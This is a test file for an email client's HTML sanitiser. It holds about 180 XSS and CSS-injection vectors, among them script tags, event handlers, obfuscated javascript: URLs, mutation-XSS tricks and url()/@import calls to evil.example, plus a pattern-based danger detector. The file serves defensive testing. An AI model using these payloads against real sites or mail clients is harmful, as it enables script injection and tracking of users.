import { describe, expect, it } from "vitest";
import { sanitiseHtml } from "../../../electron/mime/sanitise.ts";

const parts = new Map([["logo@example.org", 3]]);
const sanitise = (html: string) => sanitiseHtml(html, (contentId) => parts.get(contentId));

/** Everything in markup (not in text) that could run, load or lead somewhere it should not. */
function findDanger(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<[a-z/!?][^>]*>?/gi)) {
    const bare = tag.replace(/"[^"]*"/g, '""');
    if (/^<(?:!|\?)/.test(tag)) found.push(`declaration ${tag}`);
    if (
      /^<\/?(?:script|iframe|frame|object|embed|applet|svg|math|meta|base|link|form|input|button|video|audio|source|template|noscript|xmp|title|textarea|select|option|body|html|head)\b/i.test(
        tag,
      )
    )
      found.push(`element ${tag}`);
    if (
      /\s(?:on\w+|srcset|srcdoc|background|poster|action|formaction|ping|xlink:href|data|http-equiv|name)\b/i.test(bare)
    )
      found.push(`attribute ${tag}`);
    for (const [, name = "", value = ""] of tag.matchAll(/\s(href|src)="([^"]*)"/g)) {
      const allowed =
        name === "href"
          ? /^(?:https?:\/\/|mailto:|tel:)/
          : /^(?:https?:\/\/|\d+$|data:image\/(?:png|jpe?g|gif|webp);base64,)/i;
      if (!allowed.test(value)) found.push(`url ${tag}`);
    }
    const style = /\sstyle="([^"]*)"/.exec(tag)?.[1] ?? "";
    if (/url|expression|@|\\|position|behavior|binding|javascript/i.test(style)) found.push(`style ${tag}`);
  }
  for (const [, css = ""] of html.matchAll(/<style>([\s\S]*?)<\/style>/g)) {
    if (/url\s*\(|@import|@font-face|expression|\\|<|position|content\s*:/i.test(css)) found.push(`sheet ${css}`);
  }
  return found;
}

const vectors: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script/y>",
  "<script>alert(1)",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  "<img src='x'onerror='alert(1)'>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x OnErRoR=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=`x` onerror=alert(1)>",
  '<img src="x" alt="`onerror=alert(1)`">',
  '<img src="javascript:alert(1)">',
  "<img src=data:text/html,<script>alert(1)</script>>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<img src='data:image/png;base64,AAAA\" onerror=alert(1)'>",
  "<img src=/part/1/source>",
  "<img src=7>",
  "<img src=../2/3>",
  "<img src=file:///etc/passwd>",
  "<img src=app://posthorn/part/1/2>",
  "<img srcset='http://evil.example/a 1x, http://evil.example/b 2x'>",
  "<img lowsrc=http://evil.example/x dynsrc=http://evil.example/y>",
  "<picture><source srcset=http://evil.example/x><img src=x></picture>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<a href='jav\tascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#1;javascript:alert(1)'>x</a>",
  "<a href='&#106;&#97;&#118;&#97;script&colon;alert(1)'>x</a>",
  "<a href='&#0000106avascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='blob:http://x/1'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='app://posthorn/'>x</a>",
  "<a href='/part/1/2'>x</a>",
  "<a href='#top'>x</a>",
  "<a href='view-source:http://x'>x</a>",
  "<a href='http://x' ping='http://evil.example/'>x</a>",
  "<a href='http://x' target=_self rel=opener onclick=alert(1)>x</a>",
  '<a href="http://x/?q=\'&quot;><script>alert(1)</script>">x</a>',
  "<a xlink:href=javascript:alert(1)>x</a>",
  "<area href=javascript:alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<svg><title><a title='</title><img src=x onerror=alert(1)>'>",
  "<svg><image href=http://evil.example/x></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
  "<div><noscript></div><img src=x onerror=alert(1)></noscript>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<select><template><script>alert(1)</script></template></select>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<template><script>alert(1)</script></template>",
  "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
  "<style>a{}</style/><img src=x onerror=alert(1)>",
  "<style>a{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
  "<style>a{color:red}\\3c/style><script>alert(1)</script>",
  "<style>@import url(http://evil.example/x.css);</style>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<style>@\\69mport 'http://evil.example/x.css';</style>",
  "<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>",
  "<style>p{background:u\\72l(http://evil.example/x)}</style>",
  "<style>p{background:url(http://evil.example/x)}</style>",
  "<style>p{background-image:image-set('http://evil.example/x' 1x)}</style>",
  "<style>p{background:-webkit-image-set(url(http://evil.example/x) 1x)}</style>",
  "<style>p{--x:url(http://evil.example/x);background:var(--x)}</style>",
  "<style>p{content:url(http://evil.example/x)}</style>",
  "<style>p{cursor:url(http://evil.example/x),auto}</style>",
  "<style>li{list-style:url(http://evil.example/x)}</style>",
  "<style>p{color:red;}}@import 'http://evil.example/x';{</style>",
  "<style>@media all{@import 'http://evil.example/x';p{position:fixed}}</style>",
  "<style>@namespace url(http://evil.example/);p{color:red}</style>",
  "<style>@supports (color:red){p{background:url(http://evil.example/)}}</style>",
  "<style>input[value^='a']{background:url(http://evil.example/a)}</style>",
  "<style><!-- p{width:expression(alert(1))} --></style>",
  "<style>p{behavior:url(#x);-moz-binding:url(http://evil.example/x#y)}</style>",
  "<style media='print'>p{background:url(http://evil.example/x)}</style>",
  "<p style='background:url(http://evil.example/x)'>x</p>",
  "<p style='background:url(\"http://evil.example/x\")'>x</p>",
  "<p style='background:URL (http://evil.example/x)'>x</p>",
  "<p style='background:u/**/rl(http://evil.example/x)'>x</p>",
  "<p style='background:\\75rl(http://evil.example/x)'>x</p>",
  "<p style='background:src(\"http://evil.example/x\")'>x</p>",
  "<p style='background-image:cross-fade(url(http://evil.example/x),red)'>x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='width:exp/**/ression(alert(1))'>x</p>",
  "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
  "<p style='color:red;}body{background:url(http://evil.example/x)'>x</p>",
  "<p style='color:red\"onmouseover=alert(1) x=\"'>x</p>",
  "<p style='-webkit-mask:url(http://evil.example/x)'>x</p>",
  "<p style='filter:url(http://evil.example/x#y)'>x</p>",
  "<p style='font-family:\"a\\22;}\"'>x</p>",
  "<p style='color:attr(x url)'>x</p>",
  "<p style='width:env(x, url(http://evil.example/x))'>x</p>",
  "<table background=http://evil.example/x><tr><td background='//evil.example/y'>x</td></tr></table>",
  "<body background=http://evil.example/x onload=alert(1) onpageshow=alert(2)>x",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=Content-Security-Policy content='default-src *'>",
  "<meta name=referrer content=unsafe-url>",
  "<base href=http://evil.example/><a href=x>x</a>",
  "<base target=_top>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=prefetch href=//evil.example/x>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe><img src=x onerror=alert(1)></iframe>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<object data=javascript:alert(1)></object>",
  "<object><img src=x onerror=alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<video src=http://evil.example/x onerror=alert(1)><source src=http://evil.example/y></video>",
  "<video poster=http://evil.example/x></video>",
  "<audio src=http://evil.example/x autoplay></audio>",
  "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input type=image src=http://evil.example/x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1) type=image>",
  "<keygen autofocus onfocus=alert(1)>",
  "<bgsound src=javascript:alert(1)>",
  "<div contenteditable onblur=alert(1) tabindex=0 autofocus>x</div>",
  "<div popover id=p onbeforetoggle=alert(1)>x</div>",
  "<x-element onclick=alert(1) is=script>x</x-element>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<!doctype html [<!ENTITY x '<script>'>]>&x;",
  "<?xml version='1.0'?><?import namespace='t'?>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "<p/onclick=alert(1)>x</p>",
  "<p \u0000onclick=alert(1)>x</p>",
  "<p onclick\u0000=alert(1)>x</p>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<p class='\" onclick=alert(1)'>x</p>",
  "<p id=a name=b>x</p><img name=getElementById>",
  "<a id=x><a id=x name=y href=http://x>clobber</a>",
  "<table><td><style><img src=x onerror=alert(1)></table></style>",
  "<b <script>alert(1)</script>0",
  "<a\u2028href=javascript:alert(1)>x</a>",
  "<div><p><img src=x onerror=alert(1)",
  "<image src=x onerror=alert(1)>",
  "<p __proto__=x constructor=y onclick=alert(1)>x</p>",
  "<font color='red\" onclick=\"alert(1)'>x</font>",
  "<td width='1\" onclick=\"alert(1)' bgcolor='url(x)'>x</td>",
];

describe("sanitised HTML", () => {
  it.each(vectors)("holds nothing that runs or leads astray: %s", (vector) => {
    for (const source of [
      vector,
      `<table><tr><td>${vector}</td></tr></table>`,
      `<div title="a">${vector}<p>after</p>`,
    ]) {
      expect(findDanger(sanitise(source).html)).toEqual([]);
    }
  });

  it("is the same when sanitised once more", () => {
    for (const vector of vectors) {
      const once = sanitise(vector).html;
      expect(sanitise(once).html.replace(/\s+/g, "")).toBe(once.replace(/\s+/g, ""));
    }
  });

  it("has a danger check that sees dangers", () => {
    expect(findDanger("<script>")).not.toEqual([]);
    expect(findDanger('<p onclick="x">')).not.toEqual([]);
    expect(findDanger('<a href="javascript:x">')).not.toEqual([]);
    expect(findDanger('<img src="/part/1/2">')).not.toEqual([]);
    expect(findDanger('<p style="background:url(x)">')).not.toEqual([]);
    expect(findDanger("<style>@import 'x'</style>")).not.toEqual([]);
  });
});

describe("what is kept", () => {
  it("opens links outside, without an opener", () => {
    expect(sanitise('<a href="https://example.org/?a=1&amp;b=2">x</a>').html).toBe(
      '<a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitise('<a href="mailto:a@example.org">m</a><a href="tel:+49123">t</a>').html).toMatch(
      /mailto:a@.*tel:\+49123/,
    );
  });

  it("names pictures of the message by their part, and only those", () => {
    const { html, shownParts, hasRemoteImages } = sanitise(
      '<img src="cid:logo@example.org"><img src="CID:logo%40example.org"><img src="cid:other">',
    );
    expect(html).toBe('<img src="3" alt="" /><img src="3" alt="" /><img alt="" />');
    expect([...shownParts]).toEqual([3]);
    expect(hasRemoteImages).toBe(false);
  });

  it("keeps pictures in data URLs up to a size", () => {
    expect(sanitise('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toContain("data:image/png");
    expect(sanitise(`<img src="data:image/png;base64,${"A".repeat(600_000)}">`).html).toBe('<img alt="" />');
  });

  it.each([
    '<img src="http://t.example/p.gif">',
    '<img src="//t.example/p.gif">',
    "<img src='x' srcset='https://t.example/p.gif 2x'>",
    '<td background="http://t.example/p.gif">',
    '<p style="background:url(https://t.example/p.gif)">',
    "<style>p{background:url(//t.example/p.gif)}</style>",
    "<style>@import 'http://t.example/x.css';</style>",
  ])("says that pictures lie elsewhere: %s", (source) => {
    expect(sanitise(source).hasRemoteImages).toBe(true);
  });

  it("says nothing of pictures elsewhere where there are none", () => {
    expect(sanitise('<a href="http://example.org">x</a><p style="color:red">y</p>').hasRemoteImages).toBe(false);
  });

  it("keeps the layout and colours of a newsletter", () => {
    const { html } = sanitise(
      `<style>.a > td, #b{color:#333;padding:4px 8px!important}@media only screen and (max-width:600px){.a{width:100%!important}}</style>
      <table width="600" cellpadding="0" bgcolor="#eeeeee" align="center"><tr class="a"><td id="b" style="font:bold 14px/20px Arial,'Segoe UI';background:#fff url(http://x/y) no-repeat;border-radius:4px" valign="top">x</td></tr></table>`,
    );
    expect(html).toContain(".a > td, #b{color:#333;padding:4px 8px !important}");
    expect(html).toContain("@media only screen and (max-width:600px){.a{width:100% !important}");
    expect(html).toContain('<table width="600" cellpadding="0" bgcolor="#eeeeee" align="center">');
    expect(html).toContain("font:bold 14px/20px Arial,'Segoe UI'");
    expect(html).toMatch(/background:#fff\s+no-repeat/);
  });

  it("keeps the body's own colours on an element", () => {
    expect(sanitise('<body bgcolor="#fff" style="color:#111">x</body>').html).toBe(
      '<div bgcolor="#fff" style="color:#111" class="message-body">x</div>',
    );
  });
});
